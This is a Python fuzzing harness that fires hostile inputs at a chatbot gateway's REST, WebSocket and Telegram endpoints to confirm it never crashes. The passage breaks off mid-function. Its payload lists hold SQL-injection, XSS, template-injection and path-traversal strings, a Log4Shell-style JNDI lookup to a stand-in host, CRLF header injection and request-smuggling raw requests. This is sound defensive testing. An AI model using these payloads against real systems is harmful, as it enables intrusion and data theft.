"""Hostile-input fuzzing of the gateway's public surfaces, with the real stack up.

At least 10,000 malformed, oversized and hostile inputs (by default) go to

* the public REST API (``/api/v1/messages``, transcripts, erasure; a few console, page and
  raw-HTTP inputs too),
* the widget WebSocket (``/api/v1/ws``), and
* the Telegram webhook (``/telegram/webhook``, with and without the right secret),

and the gateway must answer every one of them without a 5xx, without dropping a connection
and without closing a socket with 1011. Afterwards /healthz (and /readyz with Rasa up) must be
200, a normal visitor message must get a normal answer over REST, the WebSocket and Telegram,
and the gateway process must still be running. Tracebacks in the gateway's log are counted and
grouped: a traceback for an input that was answered with a 4xx is still a finding.

    PYTHONPATH=. .venv/bin/python benchmarks/fuzz.py                     # Rasa + actions + gateway
    PYTHONPATH=. .venv/bin/python benchmarks/fuzz.py --no-rasa --count 1500   # gateway only

The generators are deterministic (``--seed``) and free of side effects, so the fast test
``tests/integration/api/test_hostile_inputs.py`` replays a slice of them in-process.
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import contextlib
import json
import logging
import random
import re
import sys
import tempfile
import time
from collections.abc import AsyncIterator, Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import ConnectionClosed, InvalidHandshake, InvalidStatus
from websockets.typing import Origin

from benchmarks.common import RESULTS, saved
from benchmarks.machine import describe_machine
from bot.channels.widget.socket import MAX_FRAME_BYTES
from bot.config import Settings
from tests.support.processes import REPO, FullStack, rasa_model_path
from tests.support.telegram_standin import BotApiStandIn

MAX_MESSAGE_CHARS = Settings.max_message_chars
MAX_BODY_BYTES = Settings.max_body_bytes
DEFAULT_SECRET = "fuzz-webhook-secret-0123456789"
# Replaced at send time with the worker's own conversation id and token (only in cases marked
# ``conversation=True``; hostile strings never contain them).
CID = "@@CID@@"
TOKEN = "@@TOKEN@@"
JSON = ("content-type", b"application/json")
RAW_WAIT_S = 20.0
WS_FAILURE_CODES = frozenset({1006, 1011, 1012, 1013, 1014, 1015})
SHARES = {"api": 0.55, "ws": 0.20, "telegram": 0.25}


# --- cases -----------------------------------------------------------------------------


@dataclass(frozen=True)
class HttpCase:
    """One HTTP request. ``body`` and header values may hold CID/TOKEN placeholders."""

    target: str
    kind: str
    method: str
    path: str
    headers: tuple[tuple[str, bytes], ...] = ()
    body: bytes | None = None
    conversation: bool = False
    chunked: bool = False
    renews: bool = False  # erases the conversation: the worker starts a new one afterwards


@dataclass(frozen=True)
class RawCase:
    """Bytes written to a socket as they are (what no HTTP client would send)."""

    target: str
    kind: str
    data: bytes


@dataclass(frozen=True)
class WsCase:
    """A WebSocket session: frames (text or binary) and how it ends.

    With ``valid_hello`` the runner sends the worker conversation's hello first. The last
    frame the runner sends is always a ping once the socket is ready, so every exchange ends
    with a pong (or a close) and nothing depends on timing.
    """

    kind: str
    frames: tuple[str | bytes, ...]
    valid_hello: bool = False
    conversation: bool = False
    origin: str | None = None
    drop: bool = False  # close right after sending, without reading anything
    target: str = "ws"


Case = HttpCase | RawCase | WsCase
Maker = Callable[[random.Random], Case]


def fill(data: str, cid: str, token: str) -> str:
    return data.replace(CID, cid).replace(TOKEN, token)


def fill_bytes(data: bytes, cid: str, token: str) -> bytes:
    return data.replace(CID.encode(), cid.encode()).replace(TOKEN.encode(), token.encode())


def request_parts(
    case: HttpCase, cid: str = "", token: str = ""
) -> tuple[str, list[tuple[bytes, bytes]], bytes | None]:
    """Path, headers and body of a case, with the conversation filled in."""
    path = fill(case.path, cid, token) if case.conversation else case.path
    headers = [
        (k.encode(), fill_bytes(v, cid, token) if case.conversation else v) for k, v in case.headers
    ]
    body = case.body
    if body is not None and case.conversation:
        body = fill_bytes(body, cid, token)
    return path, headers, body


def ws_frames(case: WsCase, cid: str = "", token: str = "") -> list[str | bytes]:
    frames: list[str | bytes] = []
    if case.valid_hello:
        frames.append(json.dumps({"type": "hello", "conversation_id": cid, "token": token}))
    for frame in case.frames:
        if case.conversation:
            frame = fill(frame, cid, token) if isinstance(frame, str) else frame
        frames.append(frame)
    return frames


def pings_after_hello(frames: Sequence[str | bytes]) -> int:
    """How many pongs the server owes for the frames after the hello (as the server reads)."""
    count = 0
    for frame in frames[1:]:
        if not isinstance(frame, str) or len(frame.encode("utf-8", "surrogatepass")) > (
            MAX_FRAME_BYTES
        ):
            continue
        try:
            parsed = json.loads(frame)
        except (ValueError, RecursionError):
            continue
        if isinstance(parsed, dict) and parsed.get("type") == "ping":
            count += 1
    return count


# --- hostile strings -------------------------------------------------------------------

SQL = [
    "' OR '1'='1",
    "'; DROP TABLE conversations; --",
    "1; SELECT token_hash FROM conversations",
    '" OR ""="',
    "admin'--",
    "1 UNION SELECT password_hash, 1 FROM officers --",
    "%' AND 1=0 UNION SELECT sqlite_version() --",
    "'||(SELECT load_extension('x'))||'",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<b>bold</b> <i>unclosed",
    '<a href="javascript:alert(1)">click</a>',
    "&lt;&gt;&amp;&#0;&#x110000;&bogus;",
    "<tg-spoiler>x</tg-spoiler><pre><code class='language-x'>",
    "<svg/onload=alert(1)>",
    "]]><!-- --><![CDATA[",
    "**bold** _it_ [link](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "`code` ```block``` ~~strike~~ ||spoiler||",
]
TEMPLATES = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{0.__class__.__mro__}",
    "{reference} {privacy_url} {retention_days} {limit}",
    "%s%s%s%s%n%x",
    "%(text)s",
    "{{ config.items() }}",
    "<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "{!r}{:>99999999}",
]
TRAVERSAL = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd\x00.png",
    "file:///etc/passwd",
    "..%c0%af..%c0%afetc/passwd",
    "..;/..;/console",
]
RASA_PAYLOADS = [
    "/restart",
    "/session_start",
    "/request_human",
    '/check_status{"reference":"../../x"}',
    '/change_language{"language":"xx"}',
    '/change_language{"language":"vi"}',
    '/feedback{"helpful":"maybe"}',
    '/correct_field{"form_field":"__class__"}',
    "/request_interview",
    "/stop_form",
    "/greet{not json",
    "/nonexistent_intent",
    "/out_of_scope" + "{" * 50,
    '/check_status{"reference":"' + "A" * 500 + '"}',
    '/complaint{"x": [1, 2, {"y": null}]}',
    "/action_listen",
    "EXTERNAL: /restart",
]
SCRIPTS = [
    "Xin chào, 你好, 안녕하세요, こんにちは, Привет, Bonjour, Guten Tag",
    "مرحبا، أين مكتب الهجرة؟",
    "שלום, איפה המשרד?",
    "नमस्ते, वीज़ा कहाँ मिलेगा?",
    "สวัสดีครับ ขอวีซ่าได้ที่ไหน",
    "Where is the cửa khẩu Mộc Bài border gate? 木牌口岸在哪里？",
    "раураl аррlе (Cyrillic homoglyphs)",
    "ｓｃｒｉｐｔ ｆｕｌｌｗｉｄｔｈ",
    "ﬁnancial ﬂow Ⅻ ㍻ ﷺ",
]
SPECIAL = [
    "\u202eevil\u202c txt.exe",
    "\u2066\u2067\u2068isolates\u2069",
    "\u200b\u200c\u200d\u2060\ufeff",
    "zero\u200bwidth\u200bspaces",
    "👩‍👩‍👧‍👦🏳️‍🌈🇻🇳👍🏽🧑🏿‍🚀",
    "\u2028line\u2029para",
    "\ufffd\uffff\ufffe\U0010ffff\U000e0001\ue000",
    "\u3000\u00a0\u2007\u202f",
    "e\u0301\u0301\u0301\u0301",
    "hi\r\nX-Injected: 1",
    "\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
    "1e309",
    "NaN",
    "-0",
    "5",
    "/rate 5",
    "5/5",
    "0",
    "null",
    "undefined",
    "true",
    "[]",
    "{}",
]
CONTROL = "".join(chr(c) for c in [*range(1, 32), 127, *range(0x80, 0xA0)])
SURROGATES = ["\ud800", "\udfff", "\ud83d", "a\udc00b", "\udbff\udbff"]
DIGITS_ODD = ["١٢", "１２", "٣"]


def pct(value: str, safe: str = "") -> str:
    """Percent-encoded; lone surrogates become their (invalid) UTF-8 bytes, on purpose."""
    return quote(value, safe=safe, errors="surrogatepass")


def zalgo(rng: random.Random, n: int) -> str:
    return "".join(
        "Zalgo"[i % 5] + "".join(chr(rng.randrange(0x300, 0x370)) for _ in range(8))
        for i in range(n)
    )


def control_text(rng: random.Random) -> str:
    return "hi " + "".join(rng.choice(CONTROL) for _ in range(rng.randrange(1, 40)))


def long_text(rng: random.Random) -> str:
    size = rng.choice([MAX_MESSAGE_CHARS - 1, MAX_MESSAGE_CHARS, 3000])
    unit = rng.choice(["A", "word ", "ư", "😀", "\n", "가", "<b>", "&amp;"])
    return (unit * (size // len(unit) + 1))[:size]


def fragment(rng: random.Random) -> str:
    pick = rng.randrange(13)
    if pick == 0:
        return rng.choice(SQL)
    if pick == 1:
        return rng.choice(MARKUP)
    if pick == 2:
        return rng.choice(TEMPLATES)
    if pick == 3:
        return rng.choice(TRAVERSAL)
    if pick == 4:
        return rng.choice(RASA_PAYLOADS)
    if pick == 5:
        return rng.choice(SCRIPTS)
    if pick == 6:
        return rng.choice(SPECIAL)
    if pick == 7:
        return control_text(rng)
    if pick == 8:
        return zalgo(rng, rng.randrange(1, 20))
    if pick == 9:
        return "".join(chr(rng.randrange(0x20, 0x2FFF)) for _ in range(rng.randrange(1, 60)))
    if pick == 10:
        return rng.choice(["visa", "Where is the immigration office?", "Bao nhiêu tiền?"])
    if pick == 11:
        return "".join(chr(rng.randrange(0x1F300, 0x1FAFF)) for _ in range(rng.randrange(1, 30)))
    return rng.choice(DIGITS_ODD) + " " + rng.choice(["a", "ok", "?"])


def hostile_text(rng: random.Random, *, surrogates: bool = True, nul: bool = True) -> str:
    """A visitor text that should be answered (or refused with a 4xx), never crash anything."""
    roll = rng.random()
    if roll < 0.06:
        return long_text(rng)
    if surrogates and roll < 0.10:
        return "hello " + rng.choice(SURROGATES) + " world"
    if nul and roll < 0.13:
        return rng.choice(["a\x00b", "\x00", "visa\x00' OR 1=1"])
    if roll < 0.16:
        return rng.choice(["", " ", "\n\t ", "\u3000", "\u200b"])
    parts = [fragment(rng) for _ in range(rng.randrange(1, 4))]
    return rng.choice([" ", "", "\n", " | "]).join(parts)


def hostile_short(rng: random.Random) -> str:
    """For ids, tokens, locales, time zones and other short fields."""
    return rng.choice(
        [
            *TRAVERSAL,
            *SQL[:4],
            "x" * rng.choice([7, 8, 64, 65, 129, 300]),
            "",
            " ",
            "\x00",
            "\u202e" + "abcdefgh",
            "😀" * 10,
            "<script>",
            "{{7*7}}",
            "null",
            "Etc/GMT+99",
            "../../etc/localtime",
            "America/New_York/Extra/Deep",
            "Mars/Olympus_Mons",
            "zz-ZZ",
            "en-" + "x" * 40,
            "x-private-use",
            "EN",
            "en-US",
            "\ud800\udc00\ud800",
        ]
    )


def dumps(value: Any, rng: random.Random | None = None) -> bytes:
    """JSON bytes; lone surrogates become ``\\udXXX`` escapes (unless rng asks for raw bytes,
    which makes invalid UTF-8 on purpose)."""
    ascii_only = rng is None or rng.random() < 0.7
    return json.dumps(value, ensure_ascii=ascii_only).encode("utf-8", "surrogatepass")


def frame_text(value: Any) -> str:
    """A WebSocket text frame must be valid UTF-8: escape everything that is not."""
    return json.dumps(value, ensure_ascii=True)


def deep(depth: int, kind: str = "[") -> str:
    if kind == "[":
        return "[" * depth + "]" * depth
    return '{"a":' * depth + "1" + "}" * depth


def optional_fields(rng: random.Random) -> dict[str, Any]:
    fields: dict[str, Any] = {}
    if rng.random() < 0.3:
        fields["language"] = rng.choice(["en", "vi", "zh", "ko", "ja", "fr", "de", "ru"])
    if rng.random() < 0.3:
        fields["locale"] = rng.choice(["ko-KR", "vi_VN", "zh-Hans-CN", "fr"])
    if rng.random() < 0.3:
        fields["timezone"] = rng.choice(["Asia/Ho_Chi_Minh", "Europe/Berlin", "UTC", "Etc/GMT+12"])
    if rng.random() < 0.3:
        fields["client_message_id"] = f"fz-{rng.randrange(10**12)}"
    return fields


# --- REST API makers -------------------------------------------------------------------

MESSAGES = "/api/v1/messages"
TRANSCRIPT = f"/api/v1/conversations/{CID}/messages"
CONVERSATION = f"/api/v1/conversations/{CID}"
OWN_AUTH = ("authorization", f"Bearer {TOKEN}".encode())


def post(kind: str, body: bytes, *extra: tuple[str, bytes], conversation: bool = False) -> HttpCase:
    headers = (JSON, *extra) if conversation is False else (JSON, OWN_AUTH, *extra)
    return HttpCase("api", kind, "POST", MESSAGES, headers, body, conversation=conversation)


def api_invalid_json(rng: random.Random) -> Case:
    bodies = [
        b"{",
        b'{"text": }',
        b"not json at all",
        b"{'text': 'single quotes'}",
        b"\xff\xfe\x00\x01",
        b'{"text": "a",}',
        b"NaN",
        b'{"text": NaN}',
        b'{"text": Infinity}',
        b"",
        b'{"text": "unterminated',
        b'\xef\xbb\xbf{"text": "bom"}',
        '{"text": "utf16"}'.encode("utf-16"),
        b'{"text":"a","text":"b"}',
        b'{"text": "\\x41"}',
        b'{"text": "\\u12"}',
        b'{"text": "\xc3\x28 invalid utf-8"}',
        b'{"text": "\xed\xa0\x80 cesu surrogate"}',
        b'{"text": "\xc0\xaf overlong"}',
        bytes(rng.randrange(256) for _ in range(rng.randrange(1, 300))),
    ]
    return post("invalid_json", rng.choice(bodies))


def api_wrong_types(rng: random.Random) -> Case:
    values: list[Any] = [
        [],
        [{"text": "hi"}],
        42,
        -1,
        None,
        True,
        "hi",
        {"text": 123},
        {"text": None},
        {"text": ["a"]},
        {"text": {"$ne": None}},
        {"text": True},
        {"text": 1.5},
        {"text": "hi", "language": 5},
        {"text": "hi", "language": ["en"]},
        {"text": "hi", "conversation_id": 12345678},
        {"text": "hi", "conversation_id": None, "client_message_id": []},
        {"text": "hi", "locale": {"a": 1}},
        {"text": "hi", "timezone": 7},
        {"text": "hi", "client_message_id": 1},
    ]
    raw = [
        b"1e309",
        b'{"text": 1e309}',
        b'{"text": -0.0}',
        b"9" * 5000,
        b'{"text": ' + b"9" * 5000 + b"}",
    ]
    if rng.random() < 0.2:
        return post("wrong_types", rng.choice(raw))
    return post("wrong_types", dumps(rng.choice(values)), conversation=rng.random() < 0.3)


def api_deep_nesting(rng: random.Random) -> Case:
    depth = rng.choice([100, 1000, 5000, 10_000])
    inner = deep(depth, rng.choice(["[", "{"]))
    body = rng.choice([inner, '{"text": ' + inner + "}", '{"text": "hi", "x": ' + inner + "}"])
    return post(f"deep_nesting_{depth}", body.encode())


def api_unknown_fields(rng: random.Random) -> Case:
    name = rng.choice(
        [
            "__proto__",
            "constructor",
            "text ",
            "TEXT",
            "is_admin",
            "mode",
            "token",
            "sender",
            "officer_id",
            "",
            "\x00",
            "a" * 1000,
            "😀",
        ]
    )
    body: dict[str, Any] = {"text": "hello", name: rng.choice([True, "human", {"a": 1}, None])}
    return post("unknown_fields", dumps(body), conversation=rng.random() < 0.3)


def api_huge_text(rng: random.Random) -> Case:
    size = rng.choice([MAX_MESSAGE_CHARS, MAX_MESSAGE_CHARS + 1, 10_000, 60_000, 70_000, 300_000])
    unit = rng.choice(["A", "😀", "ư", " "])
    text = (unit * size)[:size]
    body = dumps({"text": text, **optional_fields(rng)}, rng)
    return post(f"huge_text_{size}", body, conversation=rng.random() < 0.5)


def api_hostile_text_new(rng: random.Random) -> Case:
    body = {"text": hostile_text(rng), **optional_fields(rng)}
    return post("hostile_text_new_conversation", dumps(body, rng))


def api_hostile_text_own(rng: random.Random) -> Case:
    body = {"conversation_id": CID, "text": hostile_text(rng), **optional_fields(rng)}
    return post("hostile_text_own_conversation", dumps(body, rng), conversation=True)


def api_hostile_fields(rng: random.Random) -> Case:
    field_name = rng.choice(
        ["language", "locale", "timezone", "client_message_id", "conversation_id"]
    )
    body: dict[str, Any] = {
        "text": "Where is the immigration office?",
        field_name: hostile_short(rng),
    }
    own = field_name != "conversation_id" and rng.random() < 0.5
    if own:
        body["conversation_id"] = CID
    headers: tuple[tuple[str, bytes], ...] = ()
    if field_name == "conversation_id":
        headers = (("authorization", b"Bearer " + rng.choice([b"x", b"@@TOKEN@@"])),)
    return post(
        f"hostile_field_{field_name}", dumps(body), *headers, conversation=own or bool(headers)
    )


def api_surrogates(rng: random.Random) -> Case:
    field_name = rng.choice(["text", "client_message_id", "conversation_id", "locale", "timezone"])
    value = rng.choice(["\\ud800", "\\udfff", "hi \\ud83d there", "\\udbff\\udbff", "\\u0000"])
    parts = ['"text": "hello"'] if field_name != "text" else []
    parts.append(f'"{field_name}": "{value}"')
    own = field_name not in ("conversation_id",) and rng.random() < 0.5
    if own:
        parts.append(f'"conversation_id": "{CID}"')
    body = ("{" + ", ".join(parts) + "}").encode()
    extra = (OWN_AUTH,) if field_name == "conversation_id" else ()
    return post(f"surrogate_{field_name}", body, *extra, conversation=own or bool(extra))


def hostile_path_id(rng: random.Random) -> str:
    return rng.choice(
        [
            pct("../../etc/passwd", safe=""),
            pct("../../etc/passwd", safe="/"),
            "..%2F..%2Fetc%2Fpasswd",
            "%2e%2e",
            "%00",
            "abc%00def",
            "a" * rng.choice([65, 5000]),
            pct("' OR 1=1 --", safe=""),
            "%F0%9F%98%80",
            "%ED%A0%80",  # an encoded lone surrogate: invalid UTF-8 once decoded
            "%C0%AF",
            "%FF%FE",
            pct("<script>alert(1)</script>", safe=""),
            pct("{{7*7}}", safe=""),
            "%25%32%65",
            "x" * 22,
            "%20",
            pct("\u202eevil", safe=""),
        ]
    )


def api_conversation_paths(rng: random.Random) -> Case:
    cid = hostile_path_id(rng)
    auth = rng.choice([b"Bearer x", b"Bearer " + b"a" * 40, b"Bearer @@TOKEN@@"])
    method, path = rng.choice(
        [
            ("GET", f"/api/v1/conversations/{cid}/messages"),
            ("DELETE", f"/api/v1/conversations/{cid}"),
            ("GET", f"/api/v1/conversations/{cid}"),
            ("POST", f"/api/v1/conversations/{cid}/messages"),
            ("GET", f"/api/v1/conversations/{CID}/{cid}"),
            ("GET", f"/api/v1/{cid}/messages"),
        ]
    )
    return HttpCase(
        "api", "hostile_conversation_path", method, path, (("authorization", auth),), None, True
    )


def api_transcript_query(rng: random.Random) -> Case:
    values = [
        "-1",
        str(2**63),
        str(2**62 + 1),
        str(2**62),
        "abc",
        "1e3",
        "",
        " 1",
        "0x10",
        "0",
        "501",
        "500",
        "NaN",
        "inf",
        "1.5",
        "9" * 5000,
        *DIGITS_ODD,
        "%00",
        "1;DROP",
    ]
    query = rng.choice(
        [
            f"after={pct(rng.choice(values))}",
            f"limit={pct(rng.choice(values))}",
            f"after={pct(rng.choice(values))}&limit={pct(rng.choice(values))}",
            "after=1&after=2&limit=1&limit=999",
            "after[]=1",
            "limit",
            "%zz=1",
        ]
    )
    headers = ((OWN_AUTH,) if rng.random() < 0.9 else ()) + (
        (("authorization", b"Bearer wrong"),) if rng.random() < 0.05 else ()
    )
    return HttpCase("api", "transcript_query", "GET", f"{TRANSCRIPT}?{query}", headers, None, True)


def api_auth_headers(rng: random.Random) -> Case:
    values = [
        b"Bearer " + b"A" * 10_000,
        b"Bearer",
        b"Bearer \tx",
        b"bearer @@TOKEN@@",
        b"BEARER @@TOKEN@@",
        b"Bearer  @@TOKEN@@",
        b"Basic dXNlcjpwYXNz",
        b"Bearer @@TOKEN@@ @@TOKEN@@",
        b"Bearer \xc3\xa9\xff\xfe",
        b"Bearer @@TOKEN@@x",
        b"Bearer \xe2\x80\xae@@TOKEN@@",
        b"Token @@TOKEN@@",
        b"Bearer\t@@TOKEN@@",
        b"@@TOKEN@@",
        b"Bearer " + b"%00" * 10,
        b"Bearer " + "ü".encode("latin-1") * 300,
    ]
    auth = ("authorization", rng.choice(values))
    headers: tuple[tuple[str, bytes], ...] = (auth,)
    if rng.random() < 0.1:
        headers = (auth, ("authorization", b"Bearer @@TOKEN@@"))
    method, path, body = rng.choice(
        [
            ("POST", MESSAGES, dumps({"conversation_id": CID, "text": "hi again"})),
            ("GET", TRANSCRIPT, None),
            ("DELETE", CONVERSATION, None),
        ]
    )
    if body is not None:
        headers = (JSON, *headers)
    return HttpCase("api", "authorization_header", method, path, headers, body, True)


def api_content_types(rng: random.Random) -> Case:
    ctype = rng.choice(
        [
            b"text/plain",
            b"application/x-www-form-urlencoded",
            b"multipart/form-data; boundary=x",
            b"application/json; charset=utf-16",
            b"application/json; charset=evil",
            b"application/vnd.api+json",
            b"*/*",
            b"application/xml",
            b"",
            b"application/json" + b";" * 200,
            b"\xff\xfe/json",
        ]
    )
    body = rng.choice(
        [
            dumps({"text": "hello"}),
            b"text=hello",
            b'--x\r\nContent-Disposition: form-data; name="text"\r\n\r\nhello\r\n--x--\r\n',
            b"<message><text>hello</text></message>",
        ]
    )
    headers: tuple[tuple[str, bytes], ...] = (("content-type", ctype),)
    if rng.random() < 0.2:
        headers = ()
    return HttpCase("api", "content_type", "POST", MESSAGES, headers, body)


def api_duplicates(rng: random.Random) -> Case:
    cmid = rng.choice([f"dup-{rng.randrange(4)}", "x" * 128, "x" * 129, "", "😀" * 32])
    body = {"conversation_id": CID, "text": rng.choice(["first", "second", hostile_text(rng)])}
    body["client_message_id"] = cmid
    return post("duplicate_client_message_id", dumps(body), conversation=True)


def api_methods(rng: random.Random) -> Case:
    method = rng.choice(["PUT", "PATCH", "OPTIONS", "HEAD", "TRACE", "PROPFIND", "FOO", "DELETE"])
    path = rng.choice(
        [MESSAGES, "/api/v1/conversations/x", TRANSCRIPT, "/api/v1/ws", "/healthz", "/readyz"]
    )
    headers: tuple[tuple[str, bytes], ...] = ()
    if method == "OPTIONS" and rng.random() < 0.7:
        headers = (
            ("origin", rng.choice([b"https://evil.example", b"null", b"https://portal.example"])),
            ("access-control-request-method", rng.choice([b"POST", b"PUT", b"DELETE", b"\xff"])),
            ("access-control-request-headers", rng.choice([b"authorization", b"x-evil, *"])),
        )
    return HttpCase("api", "unsupported_method", method, path, headers, None, CID in path)


def api_methods_wrong(rng: random.Random) -> Case:
    method, path = rng.choice(
        [
            ("GET", MESSAGES),
            ("POST", "/healthz"),
            ("GET", "/telegram/webhook"),
            ("POST", TRANSCRIPT),
            ("GET", "/api/v1/ws"),
            ("POST", "/api/v1/ws"),
        ]
    )
    return HttpCase("api", "wrong_method", method, path, (JSON,), b"{}", CID in path)


def api_delete_own(rng: random.Random) -> Case:
    return HttpCase(
        "api",
        "erase_own_conversation",
        "DELETE",
        CONVERSATION,
        (OWN_AUTH,),
        None,
        True,
        renews=True,
    )


def api_body_limit(rng: random.Random) -> Case:
    size = rng.choice([MAX_BODY_BYTES - 20, MAX_BODY_BYTES, MAX_BODY_BYTES + 1, 200_000])
    prefix, suffix = b'{"text": "', b'"}'
    body = prefix + b"a" * max(0, size - len(prefix) - len(suffix)) + suffix
    chunked = rng.random() < 0.5
    return HttpCase(
        "api",
        f"body_limit_{'chunked' if chunked else 'length'}_{size}",
        "POST",
        MESSAGES,
        (JSON,),
        body,
        chunked=chunked,
    )


def api_pages_console(rng: random.Random) -> Case:
    ident = hostile_path_id(rng)
    lang = pct(hostile_short(rng), safe="")
    pick = rng.randrange(8)
    if pick == 0:
        return HttpCase("api", "page_article", "GET", f"/kb/{ident}?lang={lang}")
    if pick == 1:
        return HttpCase("api", "page_article", "GET", f"/kb/privacy?lang={lang}&lang=en")
    if pick == 2:
        return HttpCase("api", "console_static", "GET", f"/console/static/{ident}")
    if pick == 3:
        body: Any = rng.choice(
            [
                {"username": hostile_short(rng), "password": "x"},
                {"username": "admin", "password": "p" * 257},
                {"username": ["admin"], "password": None},
                {"username": "admin", "password": "x", "session": "root"},
                {"username": "admin\x00", "password": "x", "role": "admin"},
                [],
            ]
        )
        return HttpCase(
            "api", "console_login", "POST", "/api/v1/officer/login", (JSON,), dumps(body)
        )
    if pick == 4:
        token = rng.choice([b"Bearer " + b"x" * 300, b"Bearer ' OR 1=1 --", b"Bearer", b"\xff"])
        path = rng.choice(
            [
                "/api/v1/officer/tickets",
                f"/api/v1/officer/tickets/{ident}",
                "/api/v1/officer/me",
                f"/api/v1/officer/cases/{ident}",
                "/api/v1/officer/stats",
                "/api/v1/officer/events",
            ]
        )
        return HttpCase("api", "console_api_auth", "GET", path, (("authorization", token),))
    if pick == 5:
        cookie = rng.choice(
            [
                b"desk_session=" + b"x" * 5000,
                b"desk_session=\xff\xfe",
                b"desk_session",
                b"=;=;=",
                b"desk_session=a; desk_session=b",
            ]
        )
        method = rng.choice(["GET", "POST"])
        path = rng.choice(
            ["/api/v1/officer/tickets", "/api/v1/officer/tickets/x/claim", "/api/v1/officer/logout"]
        )
        return HttpCase(
            "api",
            "console_cookie",
            method,
            path,
            (("cookie", cookie), ("x-csrf-token", b"\xc3\xa9<script>")),
        )
    if pick == 6:
        query = pct(hostile_short(rng), safe="")
        path = rng.choice(
            [
                f"/api/v1/officer/tickets?status={query}",
                f"/api/v1/officer/cases?status={query}",
                f"/widget.js?v={query}",
                f"/?q={query}",
                f"/console?{query}",
            ]
        )
        return HttpCase("api", "console_query", "GET", path)
    return HttpCase("api", "unknown_path", rng.choice(["GET", "POST"]), f"/{ident}/{ident}")


def raw_request(line: bytes, *headers: bytes, body: bytes = b"", close: bool = True) -> bytes:
    """An HTTP/1.1 request written by hand (``Host: x`` first, ``Connection: close`` last)."""
    lines = [line, b"Host: x", *headers] + ([b"Connection: close"] if close else [])
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


POST_JSON = (b"POST /api/v1/messages HTTP/1.1", b"Content-Type: application/json")
WS_UPGRADE = (b"GET /api/v1/ws HTTP/1.1", b"Upgrade: websocket", b"Connection: Upgrade")
RAW_REQUESTS: list[bytes] = [
    raw_request(b"GET /api/v1/conversations/../../etc/passwd/messages HTTP/1.1"),
    raw_request(b"GET /kb/../../../etc/passwd HTTP/1.1"),
    raw_request(b"GET /console/static/../../app.py HTTP/1.1"),
    raw_request(*POST_JSON, b"Content-Length: abc", body=b"{}"),
    raw_request(*POST_JSON, b"Content-Length: 99999999", body=b"{}"),
    raw_request(*POST_JSON, b"Content-Length: -1", body=b"{}"),
    raw_request(*POST_JSON, b"Content-Length: 2", b"Transfer-Encoding: chunked", body=b"0\r\n\r\n"),
    raw_request(*POST_JSON, b"Transfer-Encoding: chunked", body=b"zz\r\n{}\r\n0\r\n\r\n"),
    raw_request(*POST_JSON, b"Content-Length: 2", b"Content-Length: 4", body=b"{}"),
    raw_request(
        *POST_JSON,
        b"Authorization: Bearer \xff\xfe\x80",
        b"Content-Length: 14",
        body=b'{"text": "hi"}',
    ),
    raw_request(
        b"POST /telegram/webhook HTTP/1.1",
        b"X-Telegram-Bot-Api-Secret-Token: \xff\xfe",
        b"Content-Length: 2",
        body=b"{}",
    ),
    raw_request(b"GET /healthz HTTP/1.1", b"Broken header line"),
    raw_request(b"GET /" + b"a" * 100_000 + b" HTTP/1.1"),
    raw_request(b"GET /healthz HTTP/9.9"),
    raw_request(b"G\x00T /healthz HTTP/1.1"),
    b"\r\n\r\n\r\n\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    raw_request(b"GET http://evil.example/healthz HTTP/1.1"),
    raw_request(b"GET /healthz HTTP/1.1", b"X-A: a", b" folded"),
    raw_request(b"GET /healthz HTTP/1.1", *(b"X-%d: %d" % (i, i) for i in range(300))),
    raw_request(*POST_JSON, b"Expect: 100-continue", b"Content-Length: 14", body=b'{"text": "hi"}'),
    raw_request(b"GET /healthz HTTP/1.1", close=False) + raw_request(b"GET /readyz HTTP/1.1"),
    raw_request(
        b"GET /api/v1/conversations/%ED%A0%80/messages HTTP/1.1", b"Authorization: Bearer x"
    ),
    b"GET /healthz HTTP/1.0\r\n\r\n",
    b"GET /healthz\r\n\r\n",
    raw_request(
        *WS_UPGRADE, b"Sec-WebSocket-Version: 13", b"Sec-WebSocket-Key: not-base64!!", close=False
    ),
    raw_request(
        *WS_UPGRADE,
        b"Sec-WebSocket-Version: 99",
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        close=False,
    ),
    # An upgrade on a request that is not a bodiless GET.
    raw_request(*WS_UPGRADE, b"Content-Length: 2", body=b"{}", close=False),
    raw_request(
        b"POST /api/v1/ws HTTP/1.1", *WS_UPGRADE[1:], b"Content-Length: 2", body=b"{}", close=False
    ),
    raw_request(b"POST /api/v1/messages HTTP/1.1", *WS_UPGRADE[1:], close=False),
    # Header values no HTTP client library lets through.
    raw_request(b"GET /api/v1/conversations/x/messages HTTP/1.1", b"Authorization: Bearer \x00x"),
    raw_request(b"GET /api/v1/officer/me HTTP/1.1", b"Authorization: Bearer   "),
    raw_request(b"GET /api/v1/officer/me HTTP/1.1", b"Cookie: desk_session=\x00\x01"),
]


def api_raw(rng: random.Random) -> Case:
    index = rng.randrange(len(RAW_REQUESTS))
    return RawCase("api", f"raw_http_{index}", RAW_REQUESTS[index])


API_MAKERS: list[tuple[Maker, int]] = [
    (api_invalid_json, 2),
    (api_wrong_types, 2),
    (api_deep_nesting, 1),
    (api_unknown_fields, 1),
    (api_huge_text, 1),
    (api_hostile_text_new, 3),
    (api_hostile_text_own, 6),
    (api_hostile_fields, 2),
    (api_surrogates, 2),
    (api_conversation_paths, 2),
    (api_transcript_query, 2),
    (api_auth_headers, 2),
    (api_content_types, 1),
    (api_duplicates, 2),
    (api_methods, 1),
    (api_methods_wrong, 1),
    (api_delete_own, 1),
    (api_body_limit, 1),
    (api_pages_console, 2),
]


# --- WebSocket makers ------------------------------------------------------------------


def ws_bad_hello(rng: random.Random) -> Case:
    hellos: list[str | bytes] = [
        frame_text({"type": "hello"}),
        frame_text({"type": "hello", "conversation_id": None, "token": None}),
        frame_text({"type": "hello", "conversation_id": CID, "token": "wrong"}),
